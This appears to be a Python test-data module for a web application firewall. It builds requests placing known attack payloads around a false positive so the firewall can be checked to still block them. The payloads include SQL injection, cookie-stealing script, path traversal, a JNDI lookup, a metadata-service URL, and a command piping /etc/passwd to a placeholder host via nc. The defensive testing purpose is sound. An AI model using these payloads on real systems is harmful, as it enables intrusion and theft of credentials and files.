"""Requests that must go on being blocked: known attacks, sent in the places of the false positive and around it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from urllib.parse import quote_from_bytes

from garrison.waf.request import Request

_PAYLOADS = {
    "SQL injection": b"1' OR '1'='1' -- ",
    "SQL union": b"-1 UNION SELECT username, password FROM users-- ",
    "script": b"<script>alert(document.cookie)</script>",
    "event handler": b'"><img src=x onerror=alert(1)>',
    "path traversal": b"../../../../etc/passwd",
    "remote file": b"http://203.0.113.9/shell.php?",
    "shell command": b";cat /etc/passwd|nc 203.0.113.9 80",
    "JNDI lookup": b"${jndi:ldap://203.0.113.9/a}",
    "metadata service": b"http://169.254.169.254/latest/meta-data/",
}
_OTHER_PATH = b"/another-path"
_OTHER_ARGUMENT = b"another"
_MOST_ARGUMENTS = 20


@dataclass(frozen=True, slots=True)
class Attack:
    """A request that is an attack."""

    name: str
    request: Request
    alone: str = ""
    """The name of the same attack without the false positive beside it: where that one is not blocked, this one tells nothing."""


def attacks_around(request: Request) -> Iterator[Attack]:
    """Each payload in other arguments and the same ones, of the same path and another, in a header, a cookie and the body."""
    path, _, query = request.target.partition(b"?")
    for name, payload in _PAYLOADS.items():
        argument = _OTHER_ARGUMENT + b"=" + quote_from_bytes(payload, safe="").encode()
        alone = f"{name} in another argument of the same path"
        yield Attack(alone, _bare(request, path + b"?" + argument))
        if query:
            beside = path + b"?" + query + b"&" + argument
            yield Attack(f"{name} in an argument beside the false positive", _bare(request, beside), alone)
        yield Attack(f"{name} in an argument of another path", _bare(request, _OTHER_PATH + b"?" + argument))
        yield Attack(f"{name} in a header", _bare(request, path, (b"x-another", payload)))
        yield Attack(
            f"{name} in a cookie", _bare(request, path, (b"cookie", b"another=" + payload.replace(b";", b"%3b")))
        )
        yield Attack(f"{name} in the body of another path", _posted(request, _OTHER_PATH, argument))
        yield Attack(f"{name} in the body of the same path", _posted(request, path, argument))
        yield from _in_the_same_places(request, name, payload)


def _in_the_same_places(request: Request, name: str, payload: bytes) -> Iterator[Attack]:
    """In each argument that the false positive has, alone: what the exception costs."""
    path, _, query = request.target.partition(b"?")
    arguments = dict.fromkeys(piece.partition(b"=")[0] for piece in query.split(b"&")[:_MOST_ARGUMENTS] if piece)
    for argument in arguments:
        target = path + b"?" + argument + b"=" + quote_from_bytes(payload, safe="").encode()
        shown = argument[:60].decode("utf-8", "backslashreplace")
        yield Attack(f"{name} in the same argument {shown}", _bare(request, target))


def _bare(request: Request, target: bytes, *more: tuple[bytes, bytes]) -> Request:
    """Without the body and cookies of the false positive, so that only the payload can be what is blocked."""
    replaced = {b"cookie", b"content-length", b"content-type", *(name for name, _ in more)}
    headers = tuple(pair for pair in request.headers if pair[0] not in replaced)
    return replace(request, target=target, headers=(*headers, *more), body=b"", body_bytes=None, parsed={})


def _posted(request: Request, path: bytes, body: bytes) -> Request:
    form = (b"content-type", b"application/x-www-form-urlencoded")
    return replace(_bare(request, path, form), method=b"POST", body=body)
